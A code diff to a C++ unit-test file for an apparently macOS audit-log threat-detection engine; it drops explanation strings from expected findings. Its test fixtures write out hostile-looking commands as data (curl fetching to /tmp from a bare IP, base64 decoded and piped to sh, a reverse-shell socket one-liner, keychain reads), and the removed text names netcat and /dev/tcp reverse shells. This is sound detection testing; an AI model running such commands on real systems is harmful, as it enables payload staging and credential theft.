@@ -39,38 +39,14 @@ constexpr uint16_t openWrite = 76;             // "open(2) - write", class fw
 constexpr uint16_t connectEvent = 32;
 constexpr uint16_t sockConnect = 248;
 
-const char *const bruteForceWhy =
-    "Repeated authentication failures from one origin in a short window is the classic signature of password "
-    "guessing.";
-const char *const loginAfterBurstWhy =
-    "A success following a burst of failures from the same origin suggests the password was guessed.";
-const char *const remoteLoginWhy =
-    "Remote interactive logins are worth confirming on endpoints that are not expected to accept SSH.";
-const char *const failedElevationWhy =
-    "A failed sudo/su can indicate someone without the password attempting to gain root.";
-const char *const elevationWhy =
-    "sudo/su grants root; review the command and whether the user normally administers this Mac.";
-const char *const authFailureWhy = "Isolated authentication failure.";
-const char *const accountWhy =
-    "Local account and group changes are a common persistence technique (e.g. hidden admin accounts).";
-const char *const auditStoppedWhy =
-    "auditd shut down. Expected at system shutdown; suspicious if the machine kept running afterwards.";
-const char *const auditChangeWhy = "Changes to the audit subsystem can blind future investigation.";
-const char *const clockWhy = "Changing the clock can disrupt log correlation and timestamps.";
-const char *const memoryWhy = "task_for_pid/ptrace on another process allows reading or injecting into its memory.";
-const char *const setuidWhy = "Setuid binaries run with their owner's privileges; attackers use them as root backdoors.";
-const char *const locationWhy = "Legitimate software rarely runs from world-writable or hidden locations.";
-const char *const networkWhy =
-    "Outbound connections from binaries in temporary or hidden locations often indicate command-and-control.";
-
-// A finding without its random id and with its time checked separately.
+// A finding without its random id, with its time checked separately and its explanation left to
+// the one table of explanation texts.
 struct Seen {
     std::string rule;
     std::string category;
     Severity severity = Severity::info;
     std::string technique;
     std::string summary;
-    std::string explanation;
     std::vector<int64_t> ids;
     std::string user;
 
@@ -80,7 +56,7 @@ struct Seen {
 void PrintTo(const Seen &s, std::ostream *os)
 {
     *os << "{" << s.rule << " | " << s.category << " | " << severityTitle(s.severity) << " | " << s.technique << " | "
-        << s.summary << " | " << s.explanation << " | ids";
+        << s.summary << " | ids";
     for (int64_t id : s.ids) *os << " " << id;
     *os << " | " << s.user << "}";
 }
@@ -89,8 +65,7 @@ std::vector<Seen> seen(const std::vector<Finding> &findings)
 {
     std::vector<Seen> out;
     for (const Finding &f : findings)
-        out.push_back({f.rule, f.category, f.severity, f.technique.value_or("(none)"), f.summary, f.explanation,
-                       f.recordIDs, f.user});
+        out.push_back({f.rule, f.category, f.severity, f.technique.value_or("(none)"), f.summary, f.recordIDs, f.user});
     return out;
 }
 
@@ -140,95 +115,90 @@ TEST_F(DetectionsTest, EachRuleFamilyFiresExactlyItsFindings)
                    at(userAuthentication, 300).failed().text("Authentication for <orvik> failed"),
                    RecordValue(userAuthentication, t0 + 400).failed().subject(orvik, 0, 300, attacker)}),
          {{"Password brute force", "Credential Access", Severity::high, "T1110",
-           "5+ failed authentications from 203.0.113.7 within 10 minutes (targets: admin, orvik)", bruteForceWhy,
-           {1, 2, 3, 4, 5}, "orvik → root"}}},
+           "5+ failed authentications from 203.0.113.7 within 10 minutes (targets: admin, orvik)", {1, 2, 3, 4, 5},
+           "orvik → root"}}},
         {"a remote login half an hour after a burst is a login after brute force, not a remote login",
          numbered({at(userAuthentication, 0).failed(), at(userAuthentication, 1).failed(),
                    at(userAuthentication, 2).failed(), at(userAuthentication, 3).failed(),
                    at(userAuthentication, 4).failed(), at(openSSHLogin, 1804)}),
          {{"Password brute force", "Credential Access", Severity::high, "T1110",
-           "5+ failed authentications from 203.0.113.7 within 10 minutes", bruteForceWhy, {1, 2, 3, 4, 5}, "orvik"},
+           "5+ failed authentications from 203.0.113.7 within 10 minutes", {1, 2, 3, 4, 5}, "orvik"},
           {"Login after brute force", "Initial Access", Severity::critical, "T1110",
-           "Successful remote login from 203.0.113.7 shortly after a brute-force burst", loginAfterBurstWhy, {6},
+           "Successful remote login from 203.0.113.7 shortly after a brute-force burst", {6},
            "orvik"}}},
         {"a remote login without a burst, and a failed one counted as an authentication failure",
          numbered({at(openSSHLogin, 0), at(openSSHLogin, 10).failed(), at(localLogin, 20)}),
          {{"Remote login", "Lateral Movement", Severity::medium, "T1021.004",
-           "Remote login (OpenSSH login) from 203.0.113.7", remoteLoginWhy, {1}, "orvik"},
-          {"Authentication failure", "Credential Access", Severity::low, "T1110", "OpenSSH login", authFailureWhy,
-           {2}, "orvik"}}},
+           "Remote login (OpenSSH login) from 203.0.113.7", {1}, "orvik"},
+          {"Authentication failure", "Credential Access", Severity::low, "T1110", "OpenSSH login", {2}, "orvik"}}},
         {"privilege elevation, failed or not, summarised by its first text or its description",
          numbered({at(sudoAuthorised, 0).failed().text("3 incorrect password attempts").text("second"),
                    RecordValue(suLogin, t0 + 1).subject(orvik, 0, 301, "0.0.0.0", 4242)}),
          {{"Failed privilege elevation", "Privilege Escalation", Severity::medium, "T1548.003",
-           "3 incorrect password attempts", failedElevationWhy, {1}, "orvik"},
-          {"Privilege elevation", "Privilege Escalation", Severity::low, "T1548.003", "su(1)", elevationWhy, {2},
+           "3 incorrect password attempts", {1}, "orvik"},
+          {"Privilege elevation", "Privilege Escalation", Severity::low, "T1548.003", "su(1)", {2},
            "orvik → root"}}},
         {"an isolated authentication failure", numbered({at(userAuthentication, 0).failed()}),
-         {{"Authentication failure", "Credential Access", Severity::low, "T1110", "user authentication",
-           authFailureWhy, {1}, "orvik"}}},
+         {{"Authentication failure", "Credential Access", Severity::low, "T1110", "user authentication", {1},
+          "orvik"}}},
         {"accounts created or modified when the change succeeded",
          numbered({at(createUser, 0).text("create user <eve>"), at(modifyUser, 1), at(createUser, 2).failed()}),
-         {{"Account created", "Persistence", Severity::high, "T1136.001", "create user <eve>", accountWhy, {1},
+         {{"Account created", "Persistence", Severity::high, "T1136.001", "create user <eve>", {1},
            "orvik"},
-          {"Account modified", "Persistence", Severity::high, "T1098", "modify user", accountWhy, {2}, "orvik"}}},
+          {"Account modified", "Persistence", Severity::high, "T1098", "modify user", {2}, "orvik"}}},
         {"audit shutdown even when failed, and configuration changes graded by outcome",
          numbered({at(auditShutdown, 0).failed(), at(auditon, 1).failed(), at(auditon, 2)}),
-         {{"Audit stopped", "Defense Evasion", Severity::low, "T1562", "audit shutdown", auditStoppedWhy, {1},
+         {{"Audit stopped", "Defense Evasion", Severity::low, "T1562", "audit shutdown", {1},
            "orvik"},
-          {"Audit configuration change", "Defense Evasion", Severity::medium, "T1562", "auditon(2) (failed)",
-           auditChangeWhy, {2}, "orvik"},
-          {"Audit configuration change", "Defense Evasion", Severity::high, "T1562", "auditon(2)", auditChangeWhy,
-           {3}, "orvik"}}},
+          {"Audit configuration change", "Defense Evasion", Severity::medium, "T1562", "auditon(2) (failed)", {2},
+           "orvik"},
+          {"Audit configuration change", "Defense Evasion", Severity::high, "T1562", "auditon(2)", {3}, "orvik"}}},
         {"clock changes name the image, else the pid, else pid 0",
          numbered({at(settimeofday, 0).image("/usr/sbin/ntpd"), at(settimeofday, 1), RecordValue(313, t0 + 2),
                    at(settimeofday, 3).failed()}),
-         {{"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by ntpd",
-           clockWhy, {1}, "orvik"},
-          {"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by pid 300",
-           clockWhy, {2}, "orvik"},
-          {"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by pid 0",
-           clockWhy, {3}, "—"}}},
+         {{"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by ntpd", {1},
+          "orvik"},
+          {"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by pid 300", {2},
+           "orvik"},
+          {"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by pid 0", {3},
+           "—"}}},
         {"memory access to another process only",
          numbered({at(taskForPid, 0).target(1, 0), at(taskForPid, 1).target(300, 0), at(taskForPid, 2)}),
          {{"Process memory access", "Privilege Escalation", Severity::medium, "T1055",
-           "task_for_pid() on pid 1 (root)", memoryWhy, {1}, "orvik"}}},
+           "task_for_pid() on pid 1 (root)", {1}, "orvik"}}},
         {"setuid and setgid bits, with the path or a question mark",
          numbered({at(chmodEvent, 0).arg("mode", 04755).path("/tmp/sh").path("/tmp/other"),
-                   at(chmodEvent, 1).arg("fd", 3).arg("new mode", 02750), at(chmodEvent, 2).arg("mode", 0755).path("/a"),
+                   at(chmodEvent, 1).arg("fd", 3).arg("new mode", 02750), at(chmodEvent, 2).arg("mode",
+                   0755).path("/a"),
                    at(chmodEvent, 3).arg("mode", 0644).arg("mode", 04755).path("/b")}),
-         {{"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 4755 /tmp/sh",
-           setuidWhy, {1}, "orvik"},
-          {"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 2750 ?", setuidWhy,
-           {2}, "orvik"}}},
+         {{"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 4755 /tmp/sh", {1},
+          "orvik"},
+          {"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 2750 ?", {2},
+           "orvik"}}},
         {"execution from suspicious locations",
          numbered({at(execve, 0).path("/private/tmp/payload").execArgs({"/private/tmp/payload", "-q", "now"}),
                    at(execve, 1).path("/Users/orvik/.agent"), at(execve, 2).path("/tmp/failed").failed()}),
-         {{"Execution from /tmp", "Execution", Severity::high, "T1204.002", "/private/tmp/payload -q now",
-           locationWhy, {1}, "orvik"},
-          {"Execution from hidden path", "Execution", Severity::high, "T1564.001", "/Users/orvik/.agent ",
-           locationWhy, {2}, "orvik"}}},
+         {{"Execution from /tmp", "Execution", Severity::high, "T1204.002", "/private/tmp/payload -q now", {1},
+          "orvik"},
+          {"Execution from hidden path", "Execution", Severity::high, "T1564.001", "/Users/orvik/.agent ", {2},
+           "orvik"}}},
         {"every matching command rule fires, after the location, with the arguments as written",
          numbered({at(execve, 0).path("/tmp/kit/curl").execArgs({"curl", "-o", "/tmp/a", "http://198.51.100.2/x"}),
                    at(execve, 1).path("/bin/sh").execArgs({"sh", "-c", "echo aGk= | BASE64 -D | sh"}),
                    at(execve, 2).path("/usr/bin/whoami")}),
-         {{"Execution from /tmp", "Execution", Severity::high, "T1204.002", "/tmp/kit/curl -o /tmp/a http://198.51.100.2/x",
-           locationWhy, {1}, "orvik"},
+         {{"Execution from /tmp", "Execution", Severity::high, "T1204.002",
+          "/tmp/kit/curl -o /tmp/a http://198.51.100.2/x", {1}, "orvik"},
           {"Tool transfer to unusual location", "Command and Control", Severity::medium, "T1105",
            "curl -o /tmp/a http://198.51.100.2/x",
-           "curl/wget writing into temporary, shared or hidden paths, or fetching from a bare IP, is typical of "
-           "payload staging.",
            {1}, "orvik"},
           {"Encoded payload decoded", "Defense Evasion", Severity::high, "T1140", "sh -c echo aGk= | BASE64 -D | sh",
-           "Decoding base64 inline is a common way to hide commands from casual inspection.", {2}, "orvik"},
+           {2}, "orvik"},
           {"Download piped to shell", "Execution", Severity::high, "T1059.004", "sh -c echo aGk= | BASE64 -D | sh",
-           "Piping remote content straight into a shell executes it without leaving a file.", {2}, "orvik"},
-          {"User / host discovery", "Discovery", Severity::info, "T1033", "/usr/bin/whoami",
-           "Common first commands after gaining a shell.", {3}, "orvik"}}},
+           {2}, "orvik"},
+          {"User / host discovery", "Discovery", Severity::info, "T1033", "/usr/bin/whoami", {3}, "orvik"}}},
         {"the command line is lowercased as Unicode text, so a Kelvin sign reads as k",
          numbered({at(execve, 0).path("/usr/bin/python3").execArgs({"python3", "-c", "import SOC\u212AET"})}),
-         {{"Reverse shell pattern", "Execution", Severity::critical, "T1059", "python3 -c import SOC\u212AET",
-           "netcat with -e, /dev/tcp redirection or socket one-liners open interactive remote shells.", {1},
+         {{"Reverse shell pattern", "Execution", Severity::critical, "T1059", "python3 -c import SOC\u212AET", {1},
            "orvik"}}},
         {"log removal, persistence writes and sensitive reads, one finding per record",
          numbered({at(unlinkEvent, 0).path("/var/log/system.log"),
@@ -237,14 +207,13 @@ TEST_F(DetectionsTest, EachRuleFamilyFiresExactlyItsFindings)
                    at(openRead, 3).image("/usr/bin/sqlite3").path("/Library/Application Support/com.apple.TCC/TCC.db")
                        .path("/Users/orvik/Library/Keychains/login.keychain-db")}),
          {{"Log or history removed", "Defense Evasion", Severity::high, "T1070.002", "unlink(2): /var/log/system.log",
-           "Removing system logs is a common anti-forensics step.", {1}, "orvik"},
+          {1}, "orvik"},
           {"Log or history removed", "Defense Evasion", Severity::high, "T1070.003",
-           "rename(2): /Users/orvik/.zsh_history", "Shell history removal hides interactive commands.", {2}, "orvik"},
+           "rename(2): /Users/orvik/.zsh_history", {2}, "orvik"},
           {"Persistence location modified", "Persistence", Severity::high, "T1543.004",
-           "open(2) - write: /Library/LaunchDaemons/x.plist", "Launch daemons run as root at boot.", {3}, "orvik"},
+           "open(2) - write: /Library/LaunchDaemons/x.plist", {3}, "orvik"},
           {"Sensitive data access", "Credential Access", Severity::medium, "T1555",
-           "open(2) - read: /Library/Application Support/com.apple.TCC/TCC.db",
-           "TCC.db stores privacy permissions; reading or altering it is uncommon outside tccd.", {4}, "orvik"}}},
+           "open(2) - read: /Library/Application Support/com.apple.TCC/TCC.db", {4}, "orvik"}}},
         {"path rules follow the event's classes and skip system readers",
          numbered({at(unlinkEvent, 0).path("/Users/orvik/Library/LaunchAgents/x.plist"),
                    at(openTruncate, 1).path("/var/log/system.log"),
@@ -260,9 +229,9 @@ TEST_F(DetectionsTest, EachRuleFamilyFiresExactlyItsFindings)
                    at(unlinkEvent, 1).image("/System/Library/x").path("/Users/orvik/Library/Keychains/login.keychain")
                        .path("/var/log/system.log")}),
          {{"Persistence location modified", "Persistence", Severity::high, "T1543.004",
-           "open(2) - write: /Library/LaunchDaemons/x.plist", "Launch daemons run as root at boot.", {1}, "orvik"},
+           "open(2) - write: /Library/LaunchDaemons/x.plist", {1}, "orvik"},
           {"Log or history removed", "Defense Evasion", Severity::high, "T1070.002", "unlink(2): /var/log/system.log",
-           "Removing system logs is a common anti-forensics step.", {2}, "orvik"}}},
+           {2}, "orvik"}}},
         {"network use by a binary in a suspicious location, first socket only",
          numbered({at(connectEvent, 0).image("/Users/Shared/agent").socket("198.51.100.9:443").socket("/tmp/s"),
                    at(sockConnect, 1).image("/tmp/agent").socket("/var/run/x.sock").socket("198.51.100.9:443"),
@@ -270,7 +239,7 @@ TEST_F(DetectionsTest, EachRuleFamilyFiresExactlyItsFindings)
                    at(connectEvent, 3).image("/tmp/agent").socket("198.51.100.9:443").failed(),
                    at(connectEvent, 4).image("/tmp/agent")}),
          {{"Network from suspicious binary", "Command and Control", Severity::high, "T1071",
-           "agent → 198.51.100.9:443", networkWhy, {1}, "orvik"}}},
+           "agent → 198.51.100.9:443", {1}, "orvik"}}},
     };
     for (const Case &c : cases) {
         SCOPED_TRACE(c.name);
